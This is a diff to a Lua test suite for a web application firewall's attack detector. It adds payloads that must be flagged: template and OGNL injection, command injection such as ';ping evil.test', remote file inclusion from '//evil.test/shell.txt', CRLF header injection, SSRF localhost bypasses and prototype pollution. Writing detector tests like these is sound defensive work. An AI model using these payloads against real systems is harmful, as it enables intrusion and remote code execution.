@@ -202,9 +202,16 @@ describe("waf.detect", function()
       "#{7*7}", "{{7*'7'}}", "cos\nsystem\n(S'id'\ntR.", "a%E5%98%8A%E5%98%8DSet-Cookie:x=1",
       "1 order by 3", "'or'1'='1", "1' waitfor delay '0:0:5'--", "http://127.000.000.001/",
       "http:/\\127.0.0.1/", "<a href=javascript&colon;alert(1)>x", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+      "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}", "%{#context['xwork.MethodAccessor']=1}",
+      "Function('return process')()", "new ProcessBuilder(\"id\").start()", "hi\r\nTo: victim@x.test",
+      "'; return this.a != ''", ";ping evil.test", ";${PATH:0:1}bin${PATH:0:1}id",
+      "http://127.0.0.1.nip.io/", "http://app.localtest.me/",
     }) do
       assert.is_true(#ids(v) > 0, v)
     end
+    assert.is_true(hits_class("rfi", "//evil.test/shell.txt", "ARGS:page"))
+    assert.is_true(hits_class("code", "prototype", "JSON:$.constructor.prototype", "json_key"))
+    assert.is_false(hits_class("code", "prototype", "JSON:$.docs.prototype", "json_key"))
   end)
 
   it("passes prose and code that look like attacks", function()
